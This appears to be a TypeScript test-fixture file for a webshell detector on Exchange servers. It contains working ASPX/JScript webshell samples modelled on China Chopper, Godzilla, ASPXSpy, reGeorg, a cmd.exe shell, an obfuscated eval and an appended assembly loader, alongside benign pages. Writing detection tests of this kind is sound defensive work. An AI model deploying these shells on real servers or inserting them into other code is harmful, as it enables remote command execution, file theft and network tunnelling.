// Webshells of the families seen on Exchange, written here from what they do (never copied from a sample).

const CRLF = (s: string) => s.replace(/\r?\n/g, '\r\n');

/** A family's shell: what it is, and the behaviour a content check must find in it. */
export interface Implant {
  family: string;
  /** What the code does, in the words of the README's table. */
  does: string;
  text: string;
}

/** China Chopper-style: one line of JScript that evaluates a posted value in unsafe mode. */
export const CHOPPER: Implant = {
  family: 'china-chopper',
  does: 'evaluates request data (JScript eval, unsafe)',
  text: '<%@ Page Language="Jscript" Debug=false %><%var v=Request.Form["q4"];if(v!=null){eval(v,"unsafe");}%>',
};

/**
 * Godzilla-style: the posted value is base64, AES-decrypted with a key in the page; the first request
 * carries an assembly kept in the session and loaded through reflection, later ones call into it.
 */
export const GODZILLA: Implant = {
  family: 'godzilla',
  does: 'decrypts the request and loads an assembly from it (Assembly.Load through reflection)',
  text: CRLF(`<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %><%@ Import Namespace="System.Security.Cryptography" %>
<script runat="server">
string k = "5f2a9c0e1d7b3a48";
byte[] Crypt(byte[] b, bool enc) {
  var aes = new RijndaelManaged();
  var kb = Encoding.Default.GetBytes(k);
  var t = enc ? aes.CreateEncryptor(kb, kb) : aes.CreateDecryptor(kb, kb);
  return t.TransformFinalBlock(b, 0, b.Length);
}
void Page_Load(object sender, EventArgs e) {
  try {
    byte[] d = Crypt(Convert.FromBase64String(Context.Request["tkn"]), false);
    if (Context.Session["pl"] == null) {
      Context.Session["pl"] = (Assembly)typeof(Assembly).GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { d });
    } else {
      var o = ((Assembly)Context.Session["pl"]).CreateInstance("LY");
      var m = new System.IO.MemoryStream();
      o.Equals(Context); o.Equals(m); o.Equals(d); o.ToString();
      Response.Write(Convert.ToBase64String(Crypt(m.ToArray(), true)));
    }
  } catch { }
}
</script>
`),
};

/** ASPXSpy-style file manager: browse folders, download, upload under the client's name, delete. */
export const FILE_MANAGER: Implant = {
  family: 'aspxspy',
  does: 'lists, reads, uploads and deletes files at paths from the request (file manager)',
  text: CRLF(`<%@ Page Language="C#" ValidateRequest="false" %><%@ Import Namespace="System.IO" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
  if (Request["pw"] != "8d1e0a") { Response.StatusCode = 404; Response.End(); }
  string dir = Request.QueryString["d"] ?? Server.MapPath(".");
  if (Request.QueryString["del"] != null) File.Delete(Request.QueryString["del"]);
  if (Request.QueryString["get"] != null) { Response.ContentType = "application/octet-stream"; Response.WriteFile(Request.QueryString["get"]); Response.End(); }
  if (Request.Files.Count > 0) Request.Files[0].SaveAs(Path.Combine(dir, Path.GetFileName(Request.Files[0].FileName)));
  foreach (var drive in DriveInfo.GetDrives()) Response.Write("<a href='?d=" + drive.Name + "'>" + drive.Name + "</a> ");
  foreach (string f in Directory.GetFiles(Request.QueryString["d"] ?? dir)) Response.Write("<br>" + Server.HtmlEncode(f));
}
</script>
<html><body><form method="post" enctype="multipart/form-data"><input type="file" name="up" /><input type="submit" value="Upload" /></form></body></html>
`),
};

/** reGeorg-style tunnel: CONNECT opens a socket to the host the headers name and keeps it in the session. */
export const TUNNEL: Implant = {
  family: 'regeorg',
  does: 'opens sockets to hosts from the request and keeps them in the session (tunnel)',
  text: CRLF(`<%@ WebHandler Language="C#" Class="ImgHandler" %>
using System; using System.Web; using System.Net; using System.Net.Sockets; using System.Web.SessionState;
public class ImgHandler : IHttpHandler, IRequiresSessionState {
  public bool IsReusable { get { return false; } }
  public void ProcessRequest(HttpContext ctx) {
    string cmd = ctx.Request.Headers["X-Op"];
    if (cmd == "CONNECT") {
      var ep = new IPEndPoint(IPAddress.Parse(ctx.Request.Headers["X-Host"]), int.Parse(ctx.Request.Headers["X-Port"]));
      var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
      s.Connect(ep); s.Blocking = false;
      ctx.Session["sock"] = s;
      ctx.Response.AddHeader("X-Status", "OK");
    } else if (cmd == "FORWARD") {
      var s = (Socket)ctx.Session["sock"];
      byte[] buf = ctx.Request.BinaryRead(ctx.Request.TotalBytes); s.Send(buf);
    } else if (cmd == "READ") {
      var s = (Socket)ctx.Session["sock"]; byte[] buf = new byte[8192]; int n = s.Receive(buf);
      ctx.Response.BinaryWrite(buf); ctx.Response.AddHeader("X-Len", n.ToString());
    } else if (cmd == "DISCONNECT") {
      ((Socket)ctx.Session["sock"]).Close(); ctx.Session.Abandon();
    } else { ctx.Response.ContentType = "image/gif"; ctx.Response.Write("GIF89a"); }
  }
}
`),
};

/** A command shell: runs `cmd.exe /c` with the posted text and prints the output. */
export const CMD_SHELL: Implant = {
  family: 'cmd-shell',
  does: 'starts cmd.exe with a command from the request',
  text: CRLF(`<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Run(object sender, EventArgs e) {
  var psi = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]);
  psi.UseShellExecute = false; psi.RedirectStandardOutput = true; psi.CreateNoWindow = true;
  var p = Process.Start(psi);
  output.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());
}
</script>
<html><body><form runat="server"><input name="c" /><asp:Button runat="server" Text="Run" OnClick="Run" /><pre><asp:Literal id="output" runat="server" /></pre></form></body></html>
`),
};

/** Char codes spell the request read, hex escapes spell `unsafe`: nothing readable is left to grep. */
const charCodes = (s: string) => [...s].map((c) => c.charCodeAt(0)).join(',');
const hex = (s: string) => [...s].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');

export const OBFUSCATED_EVAL: Implant = {
  family: 'obfuscated-eval',
  does: 'evaluates request data behind char codes and hex escapes',
  text: `<%@ Page Language="JScript" %><%eval(eval(String.fromCharCode(${charCodes('Request.Item["n"]')})),"${hex('unsafe')}");%>`,
};

/**
 * A loader appended to a stock page (same name as the shipped file): a posted base64 value loaded as an
 * assembly before the page renders; the page itself is untouched above it.
 */
export const APPENDED_LOADER = CRLF(`
<script runat="server">
protected override void OnPreInit(EventArgs e) {
  string p = Request.Form["__VIEWSTATEKEY"];
  if (!string.IsNullOrEmpty(p)) { System.Reflection.Assembly.Load(Convert.FromBase64String(p)).CreateInstance("U").Equals(this); }
  base.OnPreInit(e);
}
</script>
`);

/** Ordinary pages that read the request and do nothing dangerous with it: they must stay unflagged. */
export const BENIGN_PAGES: Record<string, string> = {
  'help-index': CRLF(`<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
  string topic = Request.QueryString["topic"] ?? "start";
  title.Text = Server.HtmlEncode(topic);
}
</script>
<html><body><h1><asp:Literal id="title" runat="server" /></h1><p>Contact the service desk on extension 4400.</p></body></html>
`),
  'portal-default': CRLF(`<%@ Page Language="C#" %><%@ Import Namespace="System.Globalization" %>
<script runat="server">
protected override void InitializeCulture() {
  string lang = Request["lang"];
  if (!string.IsNullOrEmpty(lang)) { try { UICulture = new CultureInfo(lang).Name; } catch (CultureNotFoundException) { } }
}
</script>
<html><body><h1>Corp portal</h1><ul><li><a href="/owa/">Mail</a></li><li><a href="news/">News</a></li></ul></body></html>
`),
};
